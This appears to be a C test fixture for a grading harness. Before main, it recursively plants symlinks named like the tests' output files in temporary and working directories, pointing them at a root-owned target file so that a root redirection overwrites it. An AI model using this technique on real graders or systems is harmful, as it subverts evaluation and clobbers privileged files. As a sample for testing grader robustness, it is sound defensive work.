/* An attack on the grader (tests/grade-attacks.bats): before main, plant a
 * link named like each output file the tests write (NAME.out, NAME.err,
 * trace) in every folder below $TMPDIR (where bats keeps the tests'
 * folders), $BATS_TEST_TMPDIR and the working folder, pointing at TARGET (a
 * root-owned file the test made), so that a test's redirection as root
 * would write there.  The test appends the reference's source: the program
 * then behaves as the reference does. */
#define _GNU_SOURCE
#include <dirent.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void plant(const char *dir, int depth)
{
	static const char *names[] = { "share.out", "share.err", "producer.out", "trace", "run.out" };
	char path[PATH_MAX];
	for (size_t i = 0; i < sizeof names / sizeof names[0]; i++) {
		snprintf(path, sizeof path, "%s/%s", dir, names[i]);
		unlink(path);
		symlink(TARGET, path);
	}
	DIR *d = opendir(dir);
	struct dirent *entry;
	while (depth < 8 && d && (entry = readdir(d)))
		if (entry->d_type == DT_DIR && entry->d_name[0] != '.') {
			snprintf(path, sizeof path, "%s/%s", dir, entry->d_name);
			plant(path, depth + 1);
		}
	if (d)
		closedir(d);
}

__attribute__((constructor)) static void before_main(void)
{
	char cwd[PATH_MAX];
	const char *tmp = getenv("TMPDIR"), *test = getenv("BATS_TEST_TMPDIR");
	plant(tmp ? tmp : "/tmp", 0);
	if (test)
		plant(test, 0);
	if (getcwd(cwd, sizeof cwd))
		plant(cwd, 0);
}
